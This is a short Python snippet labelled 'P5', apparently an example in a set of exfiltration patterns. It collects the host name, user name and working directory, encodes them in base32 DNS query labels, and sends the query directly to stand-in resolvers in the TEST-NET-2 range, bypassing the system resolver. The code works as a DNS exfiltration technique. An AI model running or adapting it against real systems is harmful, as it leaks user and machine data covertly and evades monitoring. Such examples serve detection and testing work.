# P5 in Python: build a DNS query by hand whose labels carry base32 host data, and send it straight
# to a resolver of the attacker's choosing (an address in TEST-NET-2, 198.51.100.0/24, which goes
# nowhere) instead of the system resolver.
import base64, getpass, os, socket, struct
data = base64.b32encode(f"{socket.gethostname()}|{getpass.getuser()}|{os.getcwd()}".encode()).decode().rstrip("=").lower()
labels = [data[i:i + 50] for i in range(0, len(data), 50)] + ["d", "exfil", "invalid"]
qname = b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0"
packet = struct.pack(">HHHHHH", 0x1337, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
for resolver in ("198.51.100.53", "198.51.100.54"):
    try:
        s.sendto(packet, (resolver, 53))
        s.recvfrom(512)
    except OSError:
        pass
